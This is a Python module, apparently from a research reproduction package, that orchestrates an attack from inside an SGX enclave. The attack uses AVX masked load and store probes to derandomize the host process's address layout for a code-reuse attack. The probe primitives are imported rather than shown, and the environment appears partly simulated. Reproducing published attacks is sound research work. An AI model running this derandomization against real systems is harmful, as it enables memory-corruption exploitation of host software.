"""Fine-grained ASLR break from inside an SGX enclave (Section IV-F).

The enclave is the *attacker's* vantage point: enclave code cannot read
``/proc/self/maps``, so to stage a code-reuse attack against its host it
derandomizes the host process's layout with the AVX probe (masked ops
inside the enclave still translate through the host page tables).  SGX2
provides the RDTSC the measurements need; the paper reports 51 s for the
masked-load scan and 44 s for the masked-store scan of the 28-bit code
region on an i7-1065G7.
"""

from repro.attacks.userspace import (
    find_user_code_base,
    identify_libraries,
    scan_rw_pages,
)
from repro.errors import AttackError


class SgxBreakResult:
    """Outcome of the in-enclave derandomization."""

    __slots__ = ("code_base", "load_runs", "rw_pages", "load_seconds",
                 "store_seconds", "libraries", "simulated_probes")

    def __init__(self, code_base, load_runs, rw_pages, load_seconds,
                 store_seconds, libraries, simulated_probes):
        self.code_base = code_base
        #: mapped runs the load pass saw (how believable its base is)
        self.load_runs = load_runs
        self.rw_pages = rw_pages
        self.load_seconds = load_seconds
        self.store_seconds = store_seconds
        self.libraries = libraries
        self.simulated_probes = simulated_probes

    def __repr__(self):
        return (
            "SgxBreakResult(code_base={}, load {:.0f}s / store {:.0f}s)"
            .format(
                hex(self.code_base) if self.code_base else None,
                self.load_seconds, self.store_seconds,
            )
        )


def break_aslr_from_enclave(machine, rounds=2, identify=True):
    """Run the full in-enclave attack: code base scan + library scan."""
    if machine.enclave is None:
        raise AttackError(
            "no enclave on this machine; call machine.create_enclave() first"
        )
    machine.enclave.require_timer()

    # pass 1 (masked load): filter out unmapped pages, find the code base
    load_scan = find_user_code_base(machine, rounds=rounds)
    # pass 2 (masked store): flag the read-write pages (faster per probe)
    store_scan = scan_rw_pages(machine, rounds=rounds)

    libraries = identify_libraries(machine) if identify else None
    return SgxBreakResult(
        code_base=load_scan.base,
        load_runs=load_scan.mapped_runs,
        rw_pages=store_scan.mapped_runs,
        load_seconds=load_scan.probing_seconds,
        store_seconds=store_scan.probing_seconds,
        libraries=libraries,
        simulated_probes=(load_scan.simulated_probes
                          + store_scan.simulated_probes),
    )
